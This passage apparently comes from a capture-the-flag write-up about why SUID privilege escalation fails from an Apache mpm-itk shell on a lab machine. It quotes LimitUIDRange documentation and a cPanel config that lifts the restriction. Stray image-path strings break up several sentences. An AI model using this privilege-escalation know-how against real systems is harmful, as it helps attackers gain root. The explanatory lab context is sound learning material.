  • LimitUIDRange, LimitGIDRange (Apache 2.4 or newer only): Restrict setuid() and setgid() calls to a given range (e.g. “LimitUIDRange 1000 2000” to allow only uids from 1000 to 2000, inclusive), possibly increasingsecurity somewhat. Note that this requires seccomp v2 (Linux 3.5.0 or newer). Also, due to technical reasons, setgroups() is not restricted, so a rogue process can still get any group it might want. Still, performing a successful attack will be somewhat trickier than otherwise.

This page from cPanel says it more clearly:

setuid() and setgid() restrictions

The MPM ITK Apache module implements restrictions on the use of the setuid() function and the setgid() function. As a result, scripts that depend on these functions may encounter problems. This includes scripts that use the mail() function, the shell_exec function, or the sudo command.

You can resolve these restrictions with one of the following methods:

  • Don’t use the MPM ITK Apache module.

  • Update your script to no longer require escalated privileges.

  • Turn off security and allow users to execute scripts as the root user. You can allow users with UID or GID between 0 and 4294496296 to bypass security if you add the following code to your

    /etc/apache2/conf.d/includes/pre_virtualhost_global.conf file:

    <IfModule mpm_itk.c>
    LimitUIDRange 0 4294496296
    LimitGIDRange 0 4294496296

My theory at this point is that mpm-itk is preventing any shells that are children of Apache from accessing SUID binaries within that range, which must include root. When I manage to switch to SSH, the process is no longer running through the Apache/mpm-itkjail, and that opens back up the ability to run SUID binaries.

Find LimitUIDRange Values

If that’s right, I should be able to figure out what the configuration value is on Pandora, and if it’s notspecifically configured there, then figure out what the default values for LimitUIDRange might be.

In this video, I’ll look around for any settings on Pandora, and failing to find them, locate the defaults in the mpm-itk source. Once I find those, I’ll test the hypothesis by changing the owner of pandora_backup tosomething in the allowed range andseeing if SUID works again.